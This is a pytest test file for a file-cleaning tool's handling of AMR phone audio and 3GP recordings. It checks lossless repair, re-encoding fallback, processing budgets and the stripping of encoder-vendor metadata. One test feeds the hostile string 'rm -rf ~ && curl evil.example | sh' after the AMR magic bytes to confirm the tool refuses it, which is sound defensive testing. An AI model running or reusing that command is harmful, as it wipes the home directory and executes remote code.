"""Phone speech: 3GP files with several AMR frames per sample, ``.amr``/``.awb``
files, and what happens when a stream cannot be copied at all.

The oracles are FFmpeg's command line (Debian's, not the libraries PyAV bundles):
``ffprobe`` for what the cleaned file holds and ``ffmpeg -f null`` for whether all of
it decodes without an error; and exiftool for what metadata is left.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from portal.cleaning import Alteration, Refusal, RefusalCode, clean_file
from portal.cleaning.base import Limits
from portal.cleaning.budget import Budget
from portal.cleaning.media import remux
from portal.cleaning.media.repair import Treatment
from tests.cleaning.mediagen import (
    amr_3gp,
    amr_nb_file,
    amr_payload,
    amr_wb_file,
    kept_payloads,
)
from tests.exiftool_oracle import leaks


def probe(path: Path) -> list[dict[str, str]]:
    """Each stream's codec and duration, as ffprobe reads them."""
    out = subprocess.run(
        ["ffprobe", "-v", "error", "-show_entries", "stream=codec_name,codec_type,duration",
         "-of", "compact=p=0:nk=0", str(path)],
        capture_output=True, text=True, check=True, timeout=60,
    ).stdout  # fmt: skip
    return [dict(item.split("=", 1) for item in line.split("|")) for line in out.splitlines()]


def decodes_cleanly(path: Path) -> bool:
    proc = subprocess.run(
        ["ffmpeg", "-nostdin", "-v", "error", "-xerror", "-i", str(path), "-f", "null", "-"],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    return proc.returncode == 0 and proc.stderr.strip() == ""


@pytest.mark.parametrize("video", [False, True], ids=["voice", "video"])
def test_3gp_with_several_amr_frames_per_sample_is_repaired_losslessly(
    tmp_path: Path, video: bool
) -> None:
    """Old Android recorders and feature phones: FFmpeg's muxer said "input is not a
    single packet" and the tipster was told the file was damaged."""
    src = amr_3gp(tmp_path, video=video)
    assert decodes_cleanly(src), "the phone's file plays"
    out = tmp_path / "clean.3gp"
    result = clean_file(src, out)
    assert (result.format, result.extension) == ("3GP", "3gp")
    assert result.mime == ("video/3gpp" if video else "audio/3gpp")
    assert result.kind == ("video" if video else "audio")
    assert result.altered == frozenset()  # nothing re-encoded
    assert amr_payload(out) == amr_payload(src)  # the same speech, byte for byte
    if video:
        assert kept_payloads(out)[1] == kept_payloads(src)[1]
    streams = probe(out)
    assert [s["codec_name"] for s in streams] == (["amr_nb", "h264"] if video else ["amr_nb"])
    assert float(streams[0]["duration"]) == pytest.approx(2.0, abs=0.05)
    assert decodes_cleanly(out)
    assert leaks(out) == []


@pytest.mark.parametrize("make", [amr_nb_file, amr_wb_file], ids=["amr-nb", "amr-wb"])
def test_amr_speech_files_are_accepted(tmp_path: Path, make) -> None:
    """``#!AMR`` begins like a script ("#!"), and was refused as a program."""
    src = make(tmp_path)
    out = tmp_path / "clean.amr"
    result = clean_file(src, out)
    wide = src.suffix == ".awb"
    assert (result.kind, result.format) == ("audio", "AMR-WB" if wide else "AMR")
    assert (result.mime, result.extension) == (
        ("audio/amr-wb", "awb") if wide else ("audio/amr", "amr")
    )
    assert result.altered == frozenset() and result.removed == frozenset()
    assert out.read_bytes() == src.read_bytes()  # nothing to remove: the same file
    assert probe(out)[0]["codec_name"] == ("amr_wb" if wide else "amr_nb")
    assert decodes_cleanly(out)


@pytest.mark.parametrize(
    "data",
    [b"#!AMR\nrm -rf ~ && curl evil.example | sh\n", b"#!AMR-WB\n#!/bin/sh\necho hi\n"],
    ids=["script-after-nb-magic", "script-after-wb-magic"],
)
def test_a_script_behind_the_amr_magic_is_still_refused(tmp_path: Path, data: bytes) -> None:
    src = tmp_path / "voice.amr"
    src.write_bytes(data)
    with pytest.raises(Refusal) as info:
        clean_file(src, tmp_path / "out")
    assert info.value.code in (RefusalCode.MALFORMED, RefusalCode.EMPTY)
    assert not (tmp_path / "out").exists()


def test_scripts_are_still_programs(tmp_path: Path) -> None:
    src = tmp_path / "run"
    src.write_bytes(b"#!/bin/sh\necho AMR\n")
    with pytest.raises(Refusal) as info:
        clean_file(src, tmp_path / "out")
    assert info.value.code == RefusalCode.EXECUTABLE


def test_damaged_amr_is_still_called_damaged(tmp_path: Path) -> None:
    """Frames of a reserved type fill no sample: that file is damaged, and only that
    is said of it."""
    src = amr_3gp(tmp_path)
    data = bytearray(src.read_bytes())
    first_frame = data.index(bytes(amr_payload(src)[:32]))
    data[first_frame + 32] = 12 << 3  # the second frame's type: reserved
    src.write_bytes(bytes(data))
    with pytest.raises(Refusal) as info:
        clean_file(src, tmp_path / "out")
    assert info.value.code == RefusalCode.MALFORMED


@pytest.mark.parametrize("video", [False, True], ids=["voice", "video"])
def test_a_stream_that_cannot_be_copied_is_re_encoded_and_says_so(
    tmp_path: Path, video: bool
) -> None:
    """The last resort, as remux takes it once copying and repacking have failed:
    audio to AAC, video to H.264, each said in the result."""
    src = amr_3gp(tmp_path, video=video)
    plan = {0: Treatment.ENCODE, 1: Treatment.ENCODE} if video else {0: Treatment.ENCODE}
    out = tmp_path / "clean.bin"
    result = remux._remux_with(src, out, "isobmff", Limits(), set(), plan, Budget(Limits()))
    expected = {Alteration.AUDIO_REENCODED} | ({Alteration.VIDEO_REENCODED} if video else set())
    assert result.altered == expected
    assert result.extension == ("mp4" if video else "m4a")
    streams = probe(out)
    assert [s["codec_name"] for s in streams] == (["aac", "h264"] if video else ["aac"])
    assert float(streams[0]["duration"]) == pytest.approx(2.0, abs=0.1)
    assert decodes_cleanly(out)
    assert leaks(out) == []
    # No encoder's name or version in the streams: neither FFmpeg's AAC encoder's
    # nor x264's (which writes every option it ran with in the first frame).
    assert b"Lavc" not in out.read_bytes() and b"x264" not in out.read_bytes()


def test_re_encoding_is_bounded_by_the_budget(tmp_path: Path) -> None:
    src = amr_3gp(tmp_path, video=True)
    plan = {0: Treatment.REPACK, 1: Treatment.ENCODE}
    small = Limits(max_encoded_pixels=64 * 48)  # one frame of the two
    with pytest.raises(Refusal) as info:
        remux._remux_with(src, tmp_path / "out", "isobmff", small, set(), plan, Budget(small))
    assert info.value.code == RefusalCode.TOO_COMPLEX


def test_the_phones_encoder_vendor_does_not_survive(tmp_path: Path) -> None:
    """The AMR sample entry names its encoder's maker: a phone's is a leak."""
    src = amr_3gp(tmp_path)
    src.write_bytes(src.read_bytes().replace(b"damrFFMP", b"damrSAMS"))
    assert "Track1:EncoderVendor=SAMS" in leaks(src)
    out = tmp_path / "clean.3gp"
    clean_file(src, out)
    assert leaks(out) == [] and b"SAMS" not in out.read_bytes()
